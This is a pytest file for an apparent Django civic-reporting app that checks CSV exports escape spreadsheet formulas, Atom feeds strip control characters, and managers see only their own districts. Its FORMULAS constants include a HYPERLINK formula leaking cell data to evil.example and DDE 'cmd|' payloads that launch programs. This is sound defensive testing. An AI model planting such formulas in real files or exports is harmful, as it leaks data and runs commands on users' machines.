"""Issue 9 attacked: hostile names in the oversight's outputs (the scorecards' CSV files, the Atom
feeds), the largest inputs the oversight APIs accept, and who sees which district's numbers. The
offline export's page in Chromium: tests/test_oversight_attack_browser.py."""

from __future__ import annotations

import csv
import io
import re
from xml.etree import ElementTree as ET

import pytest
from django.test import Client

from districts.models import District, ServiceArea
from issues.models import Category, Report
from issues.services.intake import report_create
from tests.conftest import STAFF_PASSWORD, pt
from tests.test_hotspots import city_reports  # noqa: F401  (a fixture)
from tests.test_scorecards import sample  # noqa: F401  (a fixture)

# ruff: noqa: F811  (the fixture imported above, named as a test's argument)

pytestmark = pytest.mark.django_db

# Names an import or the admin could give a district or a unit; each would be a live formula in a
# spreadsheet (HYPERLINK sends the sheet's data away, cmd| runs a program in old Excel).
FORMULAS = {
    "R1": '=HYPERLINK("//evil.example/?leak="&A1,"ok")',
    "R2": "+cmd|' /C calc'!A0",
    "S11": "@SUM(1+1)*cmd|' /C calc'!A0",
}
UNIT_FORMULA = "-2+3+cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"


def _client(user=None) -> Client:
    client = Client()
    if user is not None:
        assert client.login(username=user.username, password=STAFF_PASSWORD)
    return client


def _sheet(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    raw = response.content
    # Excel reads a file without a byte-order mark as Latin-1: the Persian names become gibberish.
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                float(value)  # a negative number, not text


@pytest.fixture
def hostile_names(city, city_reports):
    for code, name in FORMULAS.items():
        District.objects.filter(code=code).update(name_fa=name, name_en=name)
    unit = ServiceArea.objects.get(code="roads-r1")
    Report.objects.filter(district__code="R1").update(service_area=unit)
    ServiceArea.objects.filter(pk=unit.pk).update(unit_name_fa=UNIT_FORMULA, unit_name_en=TAB_FORMULA)
    return city


def test_public_scorecard_csv_shows_hostile_names_as_text(hostile_names):
    client = _client()
    districts = _sheet(client.get("/api/scorecards/districts/", {"format": "csv"}))
    names = {row["code"]: row["name_fa"] for row in districts}
    assert {"R1", "R2"} <= set(names)
    for code, name in FORMULAS.items():
        if code in names:
            assert names[code] == "'" + name  # shown as typed, never run
    _no_formula(districts)
    units = _sheet(client.get("/api/scorecards/units/", {"format": "csv"}))
    unit = next(row for row in units if row["code"] == "roads-r1")
    assert unit["name_fa"] == "'" + UNIT_FORMULA and unit["name_en"] == "'" + TAB_FORMULA
    _no_formula(units)
    _no_formula(_sheet(client.get("/api/scorecards/trends/", {"format": "csv"})))


@pytest.mark.parametrize("table", ["districts", "units", "weeks", "months"])
def test_council_csv_shows_hostile_names_as_text(hostile_names, staff, table):
    rows = _sheet(_client(staff.council).get("/council/", {"format": "csv", "table": table}))
    _no_formula(rows)
    if table == "districts":
        assert {row["name_en"] for row in rows} >= {"'" + FORMULAS["R1"], "'" + FORMULAS["R2"]}


# --- Atom feeds -----------------------------------------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"
# Characters XML 1.0 cannot hold (a terminal escape, a bell, a backspace, a form feed, U+FFFE) amid
# markup: a description may carry them (only NUL is refused), a category's name too.
CONTROLS = "<b>x</b>\x1b[2J\x07 چاله\x08 ]]> \x0c\ufffe & end"


def test_feeds_stay_well_formed_with_control_characters(city):
    report = report_create(category=city.pothole, location=pt(*city.points.r1), description=CONTROLS)
    Category.objects.filter(pk=city.pothole.pk).update(name_fa="چاله\x1b" + CONTROLS, name_en="Pot\x07hole")
    client = Client()
    for url in (
        "/alerts/feeds/all.atom",
        "/alerts/feeds/district/R1.atom",
        "/alerts/feeds/category/pothole.atom",
    ):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        feed = ET.fromstring(response.content)  # well-formed, or this raises
        [entry] = feed.findall(f"{ATOM}entry")
        assert report.tracking_code in entry.findtext(f"{ATOM}title")
        summary = entry.findtext(f"{ATOM}summary")
        # The description's visible text survives, as text (escaped markup) without the controls.
        assert "&lt;b&gt;x&lt;/b&gt;" in summary and "چاله" in summary and "]]&gt;" in summary


# --- Who sees which district ----------------------------------------------------------------------


@pytest.mark.parametrize("table", ["districts", "units"])
def test_a_managers_total_is_not_called_the_whole_city(sample, staff, table):
    since = sample.since.date().isoformat()
    params = {"format": "csv", "table": table, "since": since}
    own = _sheet(_client(staff.manager_r1).get("/council/", params))
    city = _sheet(_client(staff.council).get("/council/", params))
    own_total, city_total = own[-1], city[-1]
    assert own_total["code"] == city_total["code"] == "city"
    assert int(own_total["received"]) == sum(int(r["received"]) for r in own[:-1])
    assert int(own_total["received"]) < int(city_total["received"])
    assert (city_total["name_fa"], city_total["name_en"]) == ("کل شهر", "whole city")
    # The manager's file must not present R1's numbers as the city's to whoever it is sent to.
    assert (own_total["name_fa"], own_total["name_en"]) == ("مناطق شما", "your districts")
    page = _client(staff.manager_r1).get("/council/", {"since": since}).content.decode()
    feet = re.findall(r'<tr class="city-row">\s*<th scope="row">([^<]*)</th>', page)
    assert feet == ["مناطق شما", "مناطق شما"]
    council_page = _client(staff.council).get("/council/", {"since": since}).content.decode()
    assert re.findall(r'<tr class="city-row">\s*<th scope="row">([^<]*)</th>', council_page) == ["کل شهر"] * 2


@pytest.mark.parametrize("table", ["districts", "units", "weeks", "months"])
def test_a_manager_asking_for_another_district_gets_nothing_of_it(sample, staff, table):
    since = sample.since.date().isoformat()
    params = {"format": "csv", "table": table, "since": since, "district": "R2"}
    rows = _sheet(_client(staff.manager_r1).get("/council/", params))
    assert all(row.get("code") in (None, "city") for row in rows)
    assert sum(int(row["received"]) for row in rows) == 0
    assert sum(int(row["received"]) for row in _sheet(_client(staff.council).get("/council/", params))) > 0


@pytest.mark.parametrize("who", [None, "unit_r1", "operator"])
def test_the_council_csv_is_not_a_side_door(sample, staff, who):
    """Anonymous users are sent to sign in and unit staff and operators refused (docs/architecture.md:
    the dashboard is the council's, the supervisors' and the district managers'), for the CSV as for
    the page: no table leaves by `?format=csv`. The public scorecards stay open to anyone."""
    since = sample.since.date().isoformat()
    client = _client(getattr(staff, who) if who else None)
    answer = client.get("/council/", {"format": "csv", "table": "districts", "since": since})
    assert answer.status_code == (302 if who is None else 403)
    assert not answer["Content-Type"].startswith("text/csv") and b"received" not in answer.content
    assert _sheet(client.get("/api/scorecards/districts/", {"format": "csv", "since": since}))
